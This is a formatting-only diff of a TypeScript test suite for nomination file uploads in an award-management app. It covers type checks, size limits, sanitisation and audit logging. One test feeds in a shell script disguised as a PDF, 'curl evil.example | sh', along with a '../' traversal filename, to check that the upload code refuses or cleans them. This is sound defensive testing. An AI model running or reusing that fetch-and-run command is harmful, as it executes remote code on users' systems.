@@ -10,7 +10,13 @@ import type { NominationStatus } from "../generated/prisma/enums";
 import type { Actor } from "../session";
 import { fileStorage } from "../storage";
 import { FileRefusedError } from "./file-rules";
-import { addNominationFile, getNominationFiles, listNominationFiles, openNominationFileForDownload, removeNominationFile } from "./files";
+import {
+  addNominationFile,
+  getNominationFiles,
+  listNominationFiles,
+  openNominationFileForDownload,
+  removeNominationFile,
+} from "./files";
 
 const client = createPrismaClient({ connectionString: process.env.TEST_DATABASE_URL! });
 afterAll(() => client.$disconnect());
@@ -42,7 +48,9 @@ beforeAll(async () => {
       startsOn: new Date("2026-01-01"),
       endsOn: new Date("2026-12-31"),
       status: "OPEN",
-      awardTitles: { create: [{ position: 1, name: "Điển hình tiên tiến", eligibility: "BOTH", approvalThresholdPercent: 60 }] },
+      awardTitles: {
+        create: [{ position: 1, name: "Điển hình tiên tiến", eligibility: "BOTH", approvalThresholdPercent: 60 }],
+      },
     },
     include: { awardTitles: true },
   });
@@ -80,7 +88,16 @@ async function nomination(status: NominationStatus = "DRAFT") {
 async function evidenceRows(nominationId: string, sizes: number[]) {
   for (const sizeBytes of sizes) {
     await client.nominationFile.create({
-      data: { nominationId, kind: "EVIDENCE", storageKey: `test/${randomUUID()}`, fileName: "cu.pdf", mimeType: "application/pdf", sizeBytes, sha256: "0".repeat(64), uploadedById: world.officerA.id },
+      data: {
+        nominationId,
+        kind: "EVIDENCE",
+        storageKey: `test/${randomUUID()}`,
+        fileName: "cu.pdf",
+        mimeType: "application/pdf",
+        sizeBytes,
+        sha256: "0".repeat(64),
+        uploadedById: world.officerA.id,
+      },
     });
   }
 }
@@ -89,7 +106,8 @@ async function evidenceRows(nominationId: string, sizes: number[]) {
 async function storedFileCount(): Promise<number> {
   const root = process.env.UPLOAD_DIR!;
   const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
-  return entries.filter((entry) => entry.isFile() && !path.relative(root, entry.parentPath).startsWith("partial")).length;
+  return entries.filter((entry) => entry.isFile() && !path.relative(root, entry.parentPath).startsWith("partial"))
+    .length;
 }
 
 const refusal = (promise: Promise<unknown>) =>
@@ -98,27 +116,48 @@ const refusal = (promise: Promise<unknown>) =>
     (error: unknown) => (error instanceof FileRefusedError ? error.reason : (error as { code?: string }).code),
   );
 
-const upload = (actor: Actor, nominationId: string, fileName: string, bytes: Uint8Array, kind: "EVIDENCE" | "PORTRAIT" = "EVIDENCE") =>
-  addNominationFile({ actor, nominationId, kind, fileName, bytes });
+const upload = (
+  actor: Actor,
+  nominationId: string,
+  fileName: string,
+  bytes: Uint8Array,
+  kind: "EVIDENCE" | "PORTRAIT" = "EVIDENCE",
+) => addNominationFile({ actor, nominationId, kind, fileName, bytes });
 
 describe("adding files", () => {
   it("stores an evidence PDF with its sanitized name, type, size and checksum, and records it", async () => {
     const { id } = await nomination();
     const bytes = pdf("Bao cao thanh tich");
     const file = await upload(world.officerA, id, "../Báo cáo \r\nthành tích.pdf", bytes);
-    expect(file).toMatchObject({ kind: "EVIDENCE", fileName: "Báo cáo thành tích.pdf", mimeType: "application/pdf", sizeBytes: bytes.length });
+    expect(file).toMatchObject({
+      kind: "EVIDENCE",
+      fileName: "Báo cáo thành tích.pdf",
+      mimeType: "application/pdf",
+      sizeBytes: bytes.length,
+    });
     const row = await client.nominationFile.findUniqueOrThrow({ where: { id: file.id } });
     expect(row.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
     expect(row.uploadedById).toBe(world.officerA.id);
     expect(await buffer(await fileStorage().stream(row.storageKey))).toEqual(bytes);
     const events = await client.auditEvent.findMany({ where: { objectId: id } });
-    expect(events).toMatchObject([{ action: "nomination.file_added", actorId: world.officerA.id, after: { fileId: file.id, fileName: "Báo cáo thành tích.pdf" } }]);
+    expect(events).toMatchObject([
+      {
+        action: "nomination.file_added",
+        actorId: world.officerA.id,
+        after: { fileId: file.id, fileName: "Báo cáo thành tích.pdf" },
+      },
+    ]);
   });
 
   it("accepts JPEG, PNG, DOCX and XLSX evidence, named by what they really are", async () => {
     const { id } = await nomination();
     const names = [];
-    for (const [name, bytes] of [["anh.jpeg", jpeg1x1], ["anh-gui-nham.pdf", png1x1], ["Báo cáo", docx()], ["bang-diem.XLSX", xlsx()]] as const) {
+    for (const [name, bytes] of [
+      ["anh.jpeg", jpeg1x1],
+      ["anh-gui-nham.pdf", png1x1],
+      ["Báo cáo", docx()],
+      ["bang-diem.XLSX", xlsx()],
+    ] as const) {
       names.push((await upload(world.officerA, id, name, bytes)).fileName);
     }
     expect(names).toEqual(["anh.jpeg", "anh-gui-nham.png", "Báo cáo.docx", "bang-diem.XLSX"]);
@@ -129,10 +168,20 @@ describe("adding files", () => {
     const before = await storedFileCount();
     const complete = pdf();
     expect(await refusal(upload(world.officerA, id, "rong.pdf", new Uint8Array()))).toBe("fileEmpty");
-    expect(await refusal(upload(world.officerA, id, "qua-lon.pdf", pdf("A".repeat(10 * megabyte))))).toBe("fileTooLarge");
-    expect(await refusal(upload(world.officerA, id, "bao-cao.pdf", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n")))).toBe("fileTypeNotAllowed");
-    expect(await refusal(upload(world.officerA, id, "chuong-trinh.pdf", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)])))).toBe("fileTypeNotAllowed");
-    expect(await refusal(upload(world.officerA, id, "dut-doan.pdf", complete.subarray(0, complete.length - 30)))).toBe("fileCorrupt");
+    expect(await refusal(upload(world.officerA, id, "qua-lon.pdf", pdf("A".repeat(10 * megabyte))))).toBe(
+      "fileTooLarge",
+    );
+    expect(
+      await refusal(upload(world.officerA, id, "bao-cao.pdf", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"))),
+    ).toBe("fileTypeNotAllowed");
+    expect(
+      await refusal(
+        upload(world.officerA, id, "chuong-trinh.pdf", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)])),
+      ),
+    ).toBe("fileTypeNotAllowed");
+    expect(await refusal(upload(world.officerA, id, "dut-doan.pdf", complete.subarray(0, complete.length - 30)))).toBe(
+      "fileCorrupt",
+    );
     expect(await client.nominationFile.count({ where: { nominationId: id } })).toBe(0);
     expect(await storedFileCount()).toBe(before);
   });
@@ -165,12 +214,20 @@ describe("adding files", () => {
   it("takes a JPEG or PNG portrait up to 5 MB, and a new portrait replaces the old one", async () => {
     const { id } = await nomination();
     expect(await refusal(upload(world.officerA, id, "chan-dung.pdf", pdf(), "PORTRAIT"))).toBe("fileTypeNotAllowed");
-    expect(await refusal(upload(world.officerA, id, "chan-dung.png", Buffer.concat([png1x1, Buffer.alloc(5 * megabyte)]), "PORTRAIT"))).toBe("fileTooLarge");
+    expect(
+      await refusal(
+        upload(world.officerA, id, "chan-dung.png", Buffer.concat([png1x1, Buffer.alloc(5 * megabyte)]), "PORTRAIT"),
+      ),
+    ).toBe("fileTooLarge");
     const first = await upload(world.officerA, id, "chan-dung.png", png1x1, "PORTRAIT");
     const second = await upload(world.officerA, id, "chan-dung-moi.jpg", jpeg1x1, "PORTRAIT");
     expect((await client.nominationFile.findUniqueOrThrow({ where: { id: first.id } })).removedAt).not.toBeNull();
-    expect((await listNominationFiles({ actor: world.officerA, nominationId: id }))?.map((f) => f.id)).toEqual([second.id]);
-    const actions = (await client.auditEvent.findMany({ where: { objectId: id }, orderBy: { at: "asc" } })).map((e) => e.action);
+    expect((await listNominationFiles({ actor: world.officerA, nominationId: id }))?.map((f) => f.id)).toEqual([
+      second.id,
+    ]);
+    const actions = (await client.auditEvent.findMany({ where: { objectId: id }, orderBy: { at: "asc" } })).map(
+      (e) => e.action,
+    );
     expect(actions).toEqual(["nomination.file_added", "nomination.file_removed", "nomination.file_added"]);
   });
 });
@@ -227,7 +284,9 @@ describe("removing, listing and downloading", () => {
     const bytes = png1x1;
     const file = await upload(world.officerA, id, "Ảnh hoạt động.png", bytes);
     for (const actor of [world.officerA, world.officerRoot, world.admin]) {
-      expect((await listNominationFiles({ actor, nominationId: id }))?.map((f) => f.fileName)).toEqual(["Ảnh hoạt động.png"]);
+      expect((await listNominationFiles({ actor, nominationId: id }))?.map((f) => f.fileName)).toEqual([
+        "Ảnh hoạt động.png",
+      ]);
       const download = await openNominationFileForDownload({ actor, fileId: file.id });
       expect(download).toMatchObject({ fileName: "Ảnh hoạt động.png", mimeType: "image/png", sizeBytes: bytes.length });
       expect(await buffer(download!.stream)).toEqual(bytes);
